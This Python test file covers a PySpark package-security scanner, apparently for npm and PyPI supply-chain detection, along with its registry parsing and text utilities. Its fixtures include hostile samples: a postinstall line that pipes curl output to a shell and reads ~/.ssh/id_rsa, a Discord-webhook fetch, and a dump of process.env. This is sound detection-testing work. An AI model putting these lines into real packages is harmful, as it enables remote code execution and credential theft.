import hashlib
import json

from pyspark.sql import functions as F

from quillon.functions import text as X
from quillon.operators import detect
from quillon.sources import registry, views


def test_signals(spark):
    packages = spark.createDataFrame([("p", {"postinstall": "curl http://x.io | sh -c 'cat ~/.ssh/id_rsa'", "prepare": "node -e 1", "test": "wget x"}), ("q", {})], "package string, scripts map<string,string>")
    noise = "".join(chr(33 + i * 37 % 90) for i in range(90)).replace('"', "").replace("'", "").replace("`", "")
    files = [
        ("p", "a.js", "const cp = require('child_process');\n\nfetch('https://discord.com/api/webhooks/1')\n// ‮"), ("p", "b.js", f'x = "{noise}"'), ("p", "c.js", "y" * 5000), ("p", "d.js", "y" * 5000), ("p", "d.js.map", "{}"),
        ("p", "setup.py", "import urllib"), ("p", "sub/setup.py", "import urllib"), ("q", "e.js", "import x from 'node:vm'\nJSON.stringify(process.env)\nz = '" + "ab" * 600 + "'"), ("q", "f.js", None),
    ]
    files = spark.createDataFrame(files, "package string, path string, text string")
    install = {(r.package, r.path, r.rule_id, r.label): r for r in detect.install_signals(packages, files).collect()}
    assert {(k[0], k[2]) for k in install} == {("p", f"Q-INS-00{i}") for i in (1, 2, 4, 5)}
    assert install["p", "package.json", "Q-INS-002", "node -e"].confidence == 0.9 * 0.6 and install["p", "package.json", "Q-INS-002", "curl"].confidence == 0.9
    found = {(r.path, r.rule_id): r for r in detect.file_signals(files).collect()}
    assert set(found) == {("a.js", "Q-CAP-001"), ("a.js", "Q-CAP-008"), ("a.js", "Q-OBF-005"), ("b.js", "Q-OBF-001"), ("c.js", "Q-OBF-006"), ("c.js", "Q-OBF-002"), ("d.js", "Q-OBF-002"), ("e.js", "Q-CAP-003"), ("e.js", "Q-CAP-004"), ("e.js", "Q-OBF-002")}
    assert found["a.js", "Q-CAP-008"].line == 3 and "webhooks" in found["a.js", "Q-CAP-008"].excerpt
    signals = detect.install_signals(packages, files).unionByName(detect.file_signals(files))
    dense = detect.dense_signals(packages, signals, views.rule(spark)).collect()
    assert len(dense) == 82 and sum(r.skipped is not None for r in dense) == 4 and {r.rule_id for r in dense if r.fired and r.package == "q"} == {"Q-CAP-003", "Q-CAP-004", "Q-OBF-002"}
    assert detect.evidence(signals).count() <= signals.count()


def test_registry_documents(spark):
    npm = {
        "name": "@s/a", "dist-tags": {"latest": "2.0.0", "next": "2.0.0"}, "time": {"created": "2020-01-01T00:00:00Z", "1.0.0": "2020-01-02T00:00:00.000Z", "2.0.0": "2021-01-02T00:00:00.000Z", "3.0.0": "never"},
        "versions": {"1.0.0": {"version": "1.0.0", "scripts": {"install": "x"}, "repository": {"url": "git+ssh://git@github.com/s/a.git"}, "dist": {"shasum": "ab"}}, "2.0.0": {"version": "2.0.0", "license": "MIT", "keywords": ["k"]}},
    }
    docs = spark.createDataFrame([(json.dumps(npm),), ("broken",)], "json string")
    assert sorted((r.version, r.published_at.year) for r in registry.npm_releases(docs).collect()) == [("1.0.0", 2020), ("2.0.0", 2021)]
    rows = {r.version: r for r in registry.npm_versions(docs, spark.createDataFrame([("@s/a", 5)], "name string, downloads long")).collect()}
    assert (rows["1.0.0"].repository, rows["1.0.0"].integrity, rows["2.0.0"].tags, rows["2.0.0"].downloads) == ("https://github.com/s/a", "ab", ["latest", "next"], 5)
    wanted = spark.createDataFrame([("@s/a", "latest"), ("@s/a", "1.0.0"), ("@s/a", "9"), ("none", "1")], "name string, wanted string")
    assert {(r.name, r.wanted): r.version for r in registry.resolve(registry.npm_versions(docs), wanted).collect()} == {("@s/a", "latest"): "2.0.0", ("@s/a", "1.0.0"): "1.0.0", ("@s/a", "9"): None, ("none", "1"): None}
    files = [{"filename": "p-1.whl", "packagetype": "bdist_wheel", "url": "w", "upload_time_iso_8601": "2020-01-01T00:00:00Z"}, {"filename": "p-1.tar.gz", "packagetype": "sdist", "url": "s", "upload_time_iso_8601": "2020-01-03T00:00:00Z"}]
    pypi = spark.createDataFrame([(json.dumps({"info": {"name": "My_Pkg.x", "version": "1", "keywords": "a, b c", "project_urls": {"Docs": "https://d.io", "Source": "https://gitlab.com/m/p"}}, "releases": {"1": files, "2": []}}),)], "json string")
    assert [(r.name, r.version, r.published_at.day) for r in registry.pypi_releases(pypi).collect()] == [("my-pkg-x", "1", 1)]
    assert [tuple(r) for r in registry.pypi_packages(pypi).collect()] == [("my-pkg-x", "1", ["a", "b", "c"], "https://gitlab.com/m/p")]
    assert [r.url for r in registry.pypi_archives(pypi).collect()] == ["s"]
    tags = spark.createDataFrame([("@s/a", "a@1.0.0"), ("@s/a", "release-1.0.0")], "name string, tag string")
    assert [r.tag for r in registry.resolve_tags(spark.createDataFrame([("@s/a", "1.0.0")], "name string, version string"), tags).collect()] == ["release-1.0.0"]  # customary tags come before those that only end in the version


def test_text_functions(spark):
    urls = {"git+https://github.com/a/b.git": "https://github.com/a/b", "a/b": "https://github.com/a/b", "github:a/b": "https://github.com/a/b", "git@HOST.org:a/b.git": "https://host.org/a/b", "git://x.y/z/": "https://x.y/z", "ftp://x": None, "https://x.io": "https://x.io/", "": None}
    got = {r.u: r.v for r in spark.createDataFrame([(u,) for u in urls], "u string").select("u", X.repository_url(F.col("u")).alias("v")).collect()}
    assert got == urls
    row = spark.createDataFrame([(bytearray(b"abc"), "sha1-qZk+NkcGgWq6PiVxeFDCbJzQ2J0=", hashlib.sha1(b"abc").hexdigest(), "md5-x", "a​b\x01 \n c")], "c binary, a string, b string, d string, t string")
    r = row.select(*(X.integrity(F.col("c"), F.col(k)).alias(k) for k in "abd"), X.safe(F.col("t")).alias("t"), X.deceptive(F.col("t")).alias("x"), X.signature(F.lit("m"), "k").alias("s"), X.bucket_key(F.create_map(F.lit("b"), F.lit(" X "), F.lit("a"), F.lit("y"))).alias("k")).first()
    assert (r.a, r.b, r.d, r.t, r.x, r.k) == (True, True, False, "ab� c", True, "a=y&b=x") and len(r.s) == 64
    assert [X.blocked(a) for a in ("10.1.2.3", "8.8.8.8", "::1", "::ffff:10.0.0.1", "64:ff9b::808:808", "2002:0a00::", "2606:4700::1111", "fd00::1", "x", None)] == [True, False, True, True, False, True, False, True, True, True]
